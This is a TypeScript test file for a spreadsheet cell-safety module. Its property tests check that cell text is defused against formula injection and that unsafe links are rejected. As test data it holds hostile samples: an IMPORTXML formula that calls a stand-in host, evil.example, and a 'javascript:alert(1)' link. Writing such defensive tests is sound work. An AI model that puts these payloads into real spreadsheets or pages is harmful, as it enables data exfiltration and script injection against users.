import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { linkLabel, plainText, safeLink, safeText } from "../../../apps-script/src/core/cell-safety.ts";

const STARTS = /^[=+\-@\uff1d\uff0b\uff0d\uff20]/;
/** Texts with what boards send: formula starts, full width, white space, zero-width and direction marks. */
const hostile = fc.string({
  unit: fc.constantFrom(
    "=",
    "+",
    "-",
    "@",
    "'",
    "＝",
    "＋",
    "－",
    "＠",
    " ",
    "\t",
    "\n",
    "\r",
    "\u200b",
    "\u202e",
    "a",
    "1",
  ),
  maxLength: 12,
});

describe("safeText", () => {
  it.each([
    ['=IMPORTXML("https://evil.example","//a")', `'=IMPORTXML("https://evil.example","//a")`],
    ["+49 30 1234", "'+49 30 1234"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["＝1+1", "'＝1+1"],
    [" \n=1+1", "'=1+1"],
    ["\u200b=1+1", "'=1+1"],
    ["\t=1+1", "'=1+1"],
    ["C++ engineer", "C++ engineer"],
    ["'quoted'", "'quoted'"],
  ])("writes %j as %j", (raw, safe) => {
    expect(safeText(raw)).toBe(safe);
  });

  it("never begins like a formula, changes nothing the second time, and keeps what the text says", () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string()), (raw) => {
        const safe = safeText(raw);
        expect(safe).not.toMatch(STARTS);
        expect(safe).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        expect(safeText(safe)).toBe(safe);
        expect(plainText(safe)).toBe(plainText(raw));
      }),
    );
  });

  it("says the same whether or not the spreadsheet swallowed the apostrophe", () => {
    expect(plainText("'=1+1")).toBe(plainText("=1+1"));
  });

  it("cuts a text at 5,000 characters and has room for the apostrophe", () => {
    expect(safeText(`=${"x".repeat(9_000)}`)).toHaveLength(5_001);
    expect(plainText(safeText(`=${"x".repeat(9_000)}`))).toBe(`=${"x".repeat(4_999)}`);
  });
});

describe("safeLink", () => {
  it.each([
    "http://a.example/x",
    "javascript:alert(1)",
    'https://a.example/"x',
    "https://a.example/ x",
    "https://",
    " https://a.example",
  ])("takes no link from %j", (raw) => {
    expect(safeLink(raw)).toBeNull();
  });

  it("shows two https addresses alike only when they are the same", () => {
    fc.assert(
      fc.property(
        fc.webUrl({ validSchemes: ["https"] }),
        fc.webUrl({ validSchemes: ["https"] }),
        (one, other) => {
          expect(linkLabel(one) === linkLabel(other)).toBe(one === other);
        },
      ),
      // Addresses are slow to draw.
      { numRuns: 30 },
    );
  });
});
